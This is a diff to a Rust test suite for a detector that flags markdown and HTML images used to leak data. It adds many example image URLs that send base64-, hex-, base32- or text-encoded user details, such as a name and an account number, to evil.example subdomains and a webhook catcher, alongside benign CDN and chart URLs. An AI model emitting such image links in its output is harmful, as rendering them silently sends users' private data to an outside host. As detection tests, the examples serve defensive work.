@@ -139,6 +139,47 @@ fn images_that_carry_data_are_told_and_long_ordinary_addresses_are_not() {
         ("![a](<http://203.0.113.7/i?x=her+account+is+4711+and+the+balance+is+12>)", "203.0.113.7=text"),
         ("![a](https://evil.example/?h=68657220 6163)", ""),
         ("![a](https://evil.example/?h=686572206163636f756e74206973203437313120616e642074)", "evil.example=hex"),
+        (
+            "![p][1]\n\n[1]: https://evil.example/p?d=VGhlIHVzZXIgaXMgYWRhLCBoZXIgYWNjb3VudCBpcyA0NzEx",
+            "evil.example=base64",
+        ),
+        (
+            "![The  Chart]\n> [the chart]: <https://evil.example/VGhlIHVzZXIgaXMgYWRhLCBoZXIgYWNjb3VudCBpcyA0NzEx>",
+            "evil.example=base64",
+        ),
+        ("![x](HTTPS://evil.example/p?d=VGhlIHVzZXIgaXMgYWRhLCBoZXIgYWNjb3VudCBpcyA0NzEx)", "evil.example=base64"),
+        ("![x](//evil.example/p?d=VGhlIHVzZXIgaXMgYWRhLCBoZXIgYWNjb3VudCBpcyA0NzEx)", "evil.example=base64"),
+        (
+            "![a [b [c]] d](https://evil.example/p?d=VGhlIHVzZXIgaXMgYWRhLCBoZXIgYWNjb3VudCBpcyA0NzEx)",
+            "evil.example=base64",
+        ),
+        ("![x](https://evil.example/p(1)?d=VGhlIHVzZXIgaXMgYWRhLCBoZXIgYWNjb3VudCBpcyA0NzEx)", "evil.example=base64"),
+        (
+            "<source media='(min-width: 1px)' srcset='/a.png 1x, //evil.example/VGhlIHVzZXIgaXMgYWRhLCBoZXIgYWNjb3VudCBpcyA0NzEx 2x'>",
+            "evil.example=base64",
+        ),
+        (
+            "<img alt='a > b' src=\"https://evil.example/p?a=1&amp;d=VGhlIHVzZXIgaXMgYWRhLCBoZXIgYWNjb3VudCBpcyA0NzEx\">",
+            "evil.example=base64",
+        ),
+        // Parameters and beginnings that stores have, too.
+        ("![x](https://evil.example/?token=VGhlIHVzZXIgaXMgYWRhLCBoZXIgYWNjb3VudCBpcyA0NzEx)", "evil.example=base64"),
+        ("![x](https://evil.example/?Policy=VGhlIHVzZXIgaXMgYWRhLCBoZXIgYWNjb3VudCBpcyA0NzEx)", "evil.example=base64"),
+        (
+            "![x](https://evil.example/?x-d=her%20account%20is%204711%20and%20the%20balance%20is%2012)",
+            "evil.example=text",
+        ),
+        (
+            "![x](https://evil.example/?q=/her%20account%20is%204711%20and%20the%20balance%20is%2012)",
+            "evil.example=text",
+        ),
+        ("![x](https://evil.example/?VGhlIHVzZXIgaXMgYWRhLCBoZXIgYWNjb3VudCBpcyA0NzEx)", "evil.example=base64"),
+        // Words, whatever stands between them.
+        ("![x](https://evil.example/?q=her-account-is-4711-and-the-balance-is-12)", "evil.example=text"),
+        ("![x](https://evil.example/?q=her_account_is_4711_and_the_balance_is_12)", "evil.example=text"),
+        // In the name of the host, which is not repeated.
+        ("![x](https://orugkidcmfwgc3tdmuqgs4zaor3wk3dwmu.evil.example/a.png)", "evil.example=base32"),
+        ("![x](https://7468652062616c616e6365206973207477656c7665.t.evil.example/a.png)", "t.evil.example=hex"),
         ("done <IMG width=1 SRC='https://0f3c.webhook.site/a.png'>", "0f3c.webhook.site=catcher"),
     ] {
         let expected: Vec<&str> = [expected].into_iter().filter(|text| !text.is_empty()).collect();
@@ -152,7 +193,16 @@ fn images_that_carry_data_are_told_and_long_ordinary_addresses_are_not() {
         "![a](https://images.example.com/rs:fit:300/aHR0cHM6Ly9jZG4uZXhhbXBsZS5jb20vcGljdHVyZXMvY2F0LnBuZw)",
         "![a](https://www.example.com/_next/image?url=https%3A%2F%2Fcdn.example.com%2Fa%20b%20c%20d%20e%20f.png&w=640&q=75)",
         "![a](https://cdn.example.com/7d865e959b2466918c9863afca942d0fb89d7c9ac0c99bafc3749504ded97730.png)",
+        "![a](https://d1.cloudfront.net/eyJidWNrZXQiOiJwaWN0dXJlcyIsImtleSI6ImNhdHMvMS5qcGciLCJlZGl0cyI6eyJyZXNpemUiOnsid2lkdGgiOjY0MH19fQ==)",
+        "![a](https://d1.cloudfront.net/a.png?Policy=eyJTdGF0ZW1lbnQiOlt7IlJlc291cmNlIjoiaHR0cHM6Ly9kMS5jbG91ZGZyb250Lm5ldC9hLnBuZyIsIkNvbmRpdGlvbiI6eyJEYXRlTGVzc1RoYW4iOnsiQVdTOkVwb2NoVGltZSI6MTc5MDAwMDAwMH19fV19&Key-Pair-Id=K1)",
+        "![a](https://cdn.example.com/a.png?token=eyJhbGciOiJIUzI1NiJ9.eyJ1cmwiOiJhL2IucG5nIiwiaWF0IjoxNzkwMDAwMDAwfQ.K7s-_x9Qm2Lp_4tR-v8Zw3Yb-N1cD_5eF-gH6jJ)",
+        "![a](https://cdn.example.com/a.png?sig=aB3d-E5fG_h7Jk-L9mN_p1Qr-S3tU_v5Wx-Y7zA_b9Cd-E1fG&v=2026-11-30T10-20-30)",
+        "![a](https://a1b2c3d4e5f60718293a4b5c6d7e8f901a2b3c4d.cdn.example.com/a.png)",
+        "![a][1] and [b][2]\n\n[1]: https://cdn.example.com/a.png\n[2]: https://x.example/?q=her%20account%20is%204711%20and%20the%20balance",
         // Drawn as the address says.
+        "![map](https://maps.googleapis.com/maps/api/staticmap?center=12%20High%20Street,%20York,%20North%20Yorkshire,%20England,%20UK&size=600x300)",
+        "![t](https://readme-typing-svg.demolab.com?lines=Hi+there+I+build+things+for+the+web)",
+        "![f](https://math.vercel.app/?from=a%20%2B%20b%20%2B%20c%20%2B%20d%20=%20e)",
         "![a](https://quickchart.io/chart?c={type:'bar',data:{labels:['a%20b%20c%20d%20e%20f%20g']}})",
         "![build](https://img.shields.io/badge/build-passing%20on%20all%20of%20the%20platforms-green)",
         "![e](https://latex.codecogs.com/png.image?E%20=%20m%20c%20%5E%202%20+%20p%20c)",
